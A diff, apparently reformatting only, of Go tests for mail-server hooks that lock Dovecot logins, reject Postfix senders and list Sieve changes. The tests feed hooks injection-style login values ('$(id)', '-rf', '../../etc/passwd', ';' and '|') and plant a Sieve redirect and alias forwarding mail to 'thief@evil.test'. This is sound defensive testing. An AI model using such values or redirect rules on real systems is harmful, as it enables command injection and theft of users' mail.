@@ -55,7 +55,8 @@ func TestShippedHooksRefuseOddLogins(t *testing.T) {
 	needs(t, "python3")
 	dir := t.TempDir()
 	for _, login := range []string{"", "-rf@example.org", "a b@example.org", "$(id)@example.org",
-		"a\n@example.org", "a@example.org\n", "a;b@example.org", "../../etc/passwd", "名@example.org", "a\x00b",
+		"a\n@example.org", "a@example.org\n", "a;b@example.org", "../../etc/passwd",
+		"名@example.org", "a\x00b",
 		"a|b@example.org", "a&b@example.org"} {
 		said, err := shipped(t, "opened", login, "lock-dovecot", dir+"/denied", "/bin/true")
 		if err == nil {
@@ -109,7 +110,8 @@ func TestRejectLoginClosesPostfix(t *testing.T) {
 			t.Errorf("it said %q", said)
 		}
 	}
-	if err := send("bob@example.org"); err == nil || !strings.Contains(err.Error(), "postmaster about I3") {
+	err = send("bob@example.org")
+	if err == nil || !strings.Contains(err.Error(), "postmaster about I3") {
 		t.Errorf("locked: %v", err)
 	}
 	if err := send("alice@example.org"); err != nil {
@@ -183,7 +185,8 @@ func TestListSieveChanges(t *testing.T) {
 	if err := os.MkdirAll(sieve, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	for name, text := range map[string]string{sieve + "/main.sieve": "redirect \"thief@evil.test\";\nkeep;\n",
+	for name, text := range map[string]string{
+		sieve + "/main.sieve": "redirect \"thief@evil.test\";\nkeep;\n",
 		sieve + "/main.svbin": "redirect", dir + "/aliases": "root: thief@evil.test\n"} {
 		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
 			t.Fatal(err)
@@ -238,7 +241,8 @@ func TestShippedHooksWithoutJq(t *testing.T) {
 
 func TestShippedHooksPassShellcheck(t *testing.T) {
 	needs(t, "shellcheck")
-	cmd := exec.Command("shellcheck", "-x", "lock-dovecot", "reject-login", "list-sieve-changes", "event.sh")
+	cmd := exec.Command("shellcheck", "-x", "lock-dovecot", "reject-login", "list-sieve-changes",
+		"event.sh")
 	cmd.Dir = "../deploy/hooks"
 	if out, err := cmd.CombinedOutput(); err != nil {
 		t.Errorf("%v\n%s", err, out)
